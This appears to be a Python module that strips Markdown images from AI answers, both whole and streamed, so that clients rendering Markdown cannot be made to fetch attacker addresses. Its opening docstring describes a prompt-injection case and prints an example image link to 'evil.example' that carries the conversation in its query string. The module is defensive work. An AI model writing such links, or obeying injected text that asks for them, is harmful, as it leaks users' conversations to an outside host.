"""Markdown images taken out of answers, whole or streamed.

An answer's text comes from documents and models, both untrusted: a passage may tell a model
to write `![a](https://evil.example/x?q=<the conversation>)`, and a client that renders the
answer as Markdown (an OpenAI-compatible chat app) fetches that address unasked, sending what
it holds. An image becomes its alt text; a link still needs a click, and is left alone.

Images are found as a CommonMark renderer finds them (markdown-it), in every form: titles in
any quotes, brackets inside the alt text, `<addresses with spaces>`, reference images, any
length. What is left can form no image either: a `!` still before a `[` (text that was no
image, one inside code, one a renderer nests deeper than the parser follows, or one a
dropped image leaves behind) gets an invisible word joiner after it.
"""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Iterator
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.rules_inline import StateInline
from markdown_it.rules_inline.image import image as _markdown_image
from markdown_it.token import Token

#: between a `!` and a `[`, so that no renderer reads them as an image's start
JOINER = "\u2060"
_IMAGE_START = re.compile(r"!(?=\[)")
# the characters a block may put before a line's text: indentation, quote and list markers,
# a heading's hashes
_LINE_PREFIX = re.compile(r"[ \t>#*+\-0-9.)]*")
_BLANK_LINE = re.compile(r"\n[ \t]*\n")
# held text is parsed again once it has grown by 1/_REPARSE_SHARE of what is parsed with it
# (a short one at each delta), so that a long undecided stretch costs time in proportion to
# its length, not to its length squared
_REPARSE_SHARE = 4
_ALWAYS_REPARSE = 256
# held text goes no further back than this: an image longer than it is let through with its
# `!` joined off, as no image
_HOLD_MOST = 4096
# the paragraph before held text it is parsed after, for a quote's `>` or an open code span
# (up to twice this, cut back to it)
_CONTEXT_MOST = 1024


def _traced_image(state: StateInline, silent: bool) -> bool:
    """markdown-it's image rule, noting where in its text each image begins and ends."""
    start = state.pos
    if not _markdown_image(state, silent):
        return False
    if not silent:
        state.tokens[-1].meta["span"] = (start, state.pos)
    return True


def _parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark")
    parser.inline.ruler.at("image", _traced_image)
    # an image goes whatever its address: markdown-it alone refuses some schemes, a client
    # may not
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    return parser


_PARSER = _parser()
# blocks alone, for where fenced code begins and ends: no inline text parsed
_BLOCK_PARSER = MarkdownIt("commonmark").disable("inline")


class _EveryLabel(dict[str, Any]):
    """Link references in which every label is defined: where a definition still to come
    in a stream would make an image."""

    def get(self, key: str, default: Any = None) -> Any:
        return super().get(key) or {"href": "", "title": ""}


# --- where the images are -----------------------------------------------------------------

Span = tuple[int, int, int, int, int]  # start, alt start, alt end, end, depth


def _same_length(text: str) -> str:
    """`text` with the line endings and NULs markdown-it rewrites already rewritten, one
    character for one, so that its positions are `text`'s."""
    if "\r" not in text and "\0" not in text:
        return text
    return text.replace("\r\n", " \n").replace("\r", "\n").replace("\0", "\ufffd")


def image_spans(text: str, env: dict[str, Any] | None = None) -> list[Span]:
    """Each image in `text` (nested ones too) as where it starts, where its alt text starts
    and ends, where it ends, and how deep it sits in other images."""
    source = _same_length(text)
    try:
        tokens = _PARSER.parse(source, {} if env is None else env)
    except RecursionError:  # images nested past Python's stack: the joiner still holds
        return []
    line_starts = [0, *(match.end() for match in re.finditer("\n", source))]
    spans: list[Span] = []
    for token in tokens:
        if token.type == "inline" and token.children and token.map:
            spans += _located(source, line_starts, token)
    return spans


def _in_content(tokens: list[Token], base: int, depth: int) -> Iterator[Span]:
    """The images among inline `tokens`, placed in their block's text; an image's alt text
    is parsed on its own, from just after its `![`."""
    for token in tokens:
        if token.type == "image" and "span" in token.meta:
            start, end = (base + at for at in token.meta["span"])
            yield start, start + 2, start + 2 + len(token.content), end, depth
            yield from _in_content(token.children or [], start + 2, depth + 1)


def _located(source: str, line_starts: list[int], token: Token) -> list[Span]:
    """The images of one block's inline text, placed in `source` (none when its lines cannot
    be found there, which the joiner covers)."""
    lines = token.content.split("\n")
    first = token.map[0] if token.map else 0
    places: list[int] = []
    for number, line in enumerate(lines):
        at = first + number
        if at >= len(line_starts):
            return []
        end = line_starts[at + 1] - 1 if at + 1 < len(line_starts) else len(source)
        column = _column(source[line_starts[at]:end], line, last=number == len(lines) - 1)
        if column is None:
            return []
        places.append(line_starts[at] + column)
    starts = [0]
    for line in lines[:-1]:
        starts.append(starts[-1] + len(line) + 1)

    def place(index: int) -> int:
        number = bisect_right(starts, index) - 1
        return places[number] + index - starts[number]

    content, spans = token.content, []
    for start, alt_start, alt_end, end, depth in _in_content(token.children or [], 0, 0):
        span = (place(start), place(alt_start), place(alt_end), place(end - 1) + 1, depth)
        if (source[span[0]:span[0] + 2] != "![" or source[span[2]:span[2] + 1] != "]"
                or source[span[3] - 1] != content[end - 1]):
            return []
        spans.append(span)
    return spans


def _column(source_line: str, line: str, *, last: bool) -> int | None:
    """Where a block's line of text begins in the source line it was taken from: after the
    indentation and markers the block took off (a last line is also cut at its end)."""
    if not last and source_line.endswith(line):
        return len(source_line) - len(line)
    text = line.lstrip(" ")  # a tab partly taken as indentation comes back as spaces
    limit = _LINE_PREFIX.match(source_line).end()  # type: ignore[union-attr]
    found = source_line.find(text, 0, limit + len(text))
    return None if found == -1 else found - (len(line) - len(text))


# --- taking them out ----------------------------------------------------------------------

def _without(text: str, spans: list[Span], end: int) -> str:
    """`text[:end]` with each image among `spans` (all of which end by `end`) replaced by its
    alt text."""
    cuts = sorted((cut for start, alt_start, alt_end, stop, _ in spans if stop <= end
                   for cut in ((start, alt_start), (alt_end, stop))))
    kept, at = [], 0
    for start, stop in cuts:
        kept.append(text[at:start])
        at = stop
    kept.append(text[at:end])
    return "".join(kept)


def _joined(text: str, before: str = "") -> str:
    """`text`, to follow `before`, with a joiner after each `!` that precedes a `[`."""
    text = _IMAGE_START.sub("!" + JOINER, text)
    return JOINER + text if before.endswith("!") and text.startswith("[") else text


def drop_images(text: str) -> str:
    """`text` with each Markdown image replaced by its alt text."""
    if "![" not in text:
        return text
    return _joined(_without(text, image_spans(text), len(text)))


def image_addresses(text: str) -> list[str]:
    """The addresses of the Markdown images in `text`, as a renderer would fetch them."""
    if "![" not in text:
        return []
    tokens = _PARSER.parse(_same_length(text), {})
    return [child.attrs.get("src", "") for token in tokens if token.children
            for child in _images(token.children)]


def _images(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        if token.type == "image":
            yield token
            yield from _images(token.children or [])


# --- streamed -----------------------------------------------------------------------------

def without_images(deltas: Iterator[str]) -> Iterator[str]:
    """The deltas with images dropped, each piece let through once no image can begin in it
    or once the image it holds is complete."""
    # `before`: the paragraph let through so far, as written, which the held text is parsed
    # after (a quote's `>` or an open code span changes what the held text is); `fence`: the
    # opening line of a fenced code block it is inside, which makes the held text code
    fence, before, held, grown, shown = "", "", "", 0, ""
    for delta in deltas:
        held += delta
        grown += len(delta)
        start = _first_start(held)
        if start:  # nothing before the first `![` can be an image
            shown = yield from _shown(held[:start], shown)
            fence, before = _carried(fence, before + held[:start])
            held = held[start:]
        size = len(fence) + len(before) + len(held)
        if held and (size <= _ALWAYS_REPARSE or grown * _REPARSE_SHARE >= size):
            cut, ready = _decided(fence + before, held)
            shown = yield from _shown(ready, shown)
            fence, before = _carried(fence, before + held[:cut])
            held, grown = held[cut:], 0
    if held:
        yield from _shown(_without(held, _spans_after(fence + before, held), len(held)), shown)


def _carried(fence: str, text: str) -> tuple[str, str]:
    """The context kept for what follows `fence + text`: the opening line of the fenced code
    block it ends inside, and the end of `text` from its last paragraph."""
    kept = _paragraph_start(text)
    if not kept:
        return fence, text
    return _open_fence(fence + text[:kept]), text[kept:]


def _paragraph_start(text: str) -> int:
    """Where the end of `text` worth keeping begins: after its last blank line, and no more
    than _CONTEXT_MOST characters back once it has twice that (a line's start if one is
    near), so that the fence it ends inside is looked for once per stretch, not per delta."""
    start = max((blank.end() for blank in _BLANK_LINE.finditer(_same_length(text))),
                default=0)
    if len(text) - start <= 2 * _CONTEXT_MOST:
        return start
    start = len(text) - _CONTEXT_MOST
    line = text.find("\n", start, len(text) - _CONTEXT_MOST // 2)
    return start if line == -1 else line + 1


def _open_fence(text: str) -> str:
    """The opening line of the fenced code block `text` ends inside, up to its fence and
    with its quote and list markers, followed by a line break (nothing if none is open)."""
    if "```" not in text and "~~~" not in text:
        return ""
    source = _same_length(text)
    lines = _line_count(source)
    for token in reversed(_BLOCK_PARSER.parse(source, {})):
        # a fence still open runs to the end, every line after its opening one its content
        if (token.type == "fence" and token.map and token.map[1] == lines
                and _line_count(token.content) == lines - token.map[0] - 1):
            line = source.split("\n")[token.map[0]]
            opening = line[:line.find(token.markup) + len(token.markup)] + "\n"
            # past that length, code is parsed as text: dropping too much rather than
            # parsing a long prefix again at each stretch
            return opening if len(opening) <= _CONTEXT_MOST else ""
    return ""


def _line_count(text: str) -> int:
    return text.count("\n") + (0 if text.endswith("\n") or not text else 1)


def _shown(piece: str, shown: str) -> Iterator[str]:
    """Yield `piece` joined to what was shown; return the last character shown."""
    piece = _joined(piece, shown)
    if piece:
        yield piece
    return piece[-1:] or shown


def _first_start(text: str) -> int:
    """Where the first `![` of `text` is, or a `!` ending it (its length if neither)."""
    found = text.find("![")
    if found != -1:
        return found
    return len(text) - 1 if text.endswith("!") else len(text)


def _spans_after(before: str, held: str, env: dict[str, Any] | None = None) -> list[Span]:
    """The images of `held`, parsed after `before`, placed in `held`."""
    return [(start - len(before), alt_start - len(before), alt_end - len(before),
             end - len(before), depth)
            for start, alt_start, alt_end, end, depth in image_spans(before + held, env)
            if start >= len(before)]


def _decided(before: str, held: str) -> tuple[int, str]:
    """How much of `held` (which begins with `![` or is a lone `!`) no further text can make
    or unmake an image in, and that part with its images dropped."""
    # no `]`, no image: a label closes before anything else can follow
    spans = _spans_after(before, held) if "]" in held else []
    images = {start: end for start, _, _, end, depth in spans if depth == 0}
    maybe: dict[int, int] | None = None
    blank = max((match.start() for match in _BLANK_LINE.finditer(_same_length(held))),
                default=-1)
    patient = len(held) <= _HOLD_MOST
    at = held.find("![")
    while at != -1:
        if at in images:
            if images[at] >= len(held):  # a reference's `[` or `(` may still follow
                break
            at = held.find("![", images[at])
            continue
        # a label still open, or closed where a `(` or `[` may still make it an image,
        # waits for its paragraph's end (a reference it only might be is not waited for:
        # the joiner keeps it from ever becoming one)
        if patient and blank < at:
            if "]" not in held[at:]:
                break
            if maybe is None:
                maybe = {start: end for start, _, _, end, depth in _spans_after(
                    before, held, {"references": _EveryLabel()}) if depth == 0}
            end = maybe.get(at)
            if end is None or end >= len(held) or held[end] in "([":
                break
        at = held.find("![", at + 1)
    cut = len(held) if at == -1 else at
    if cut == len(held) and held.endswith("!"):
        cut -= 1
    return cut, _without(held, spans, cut)
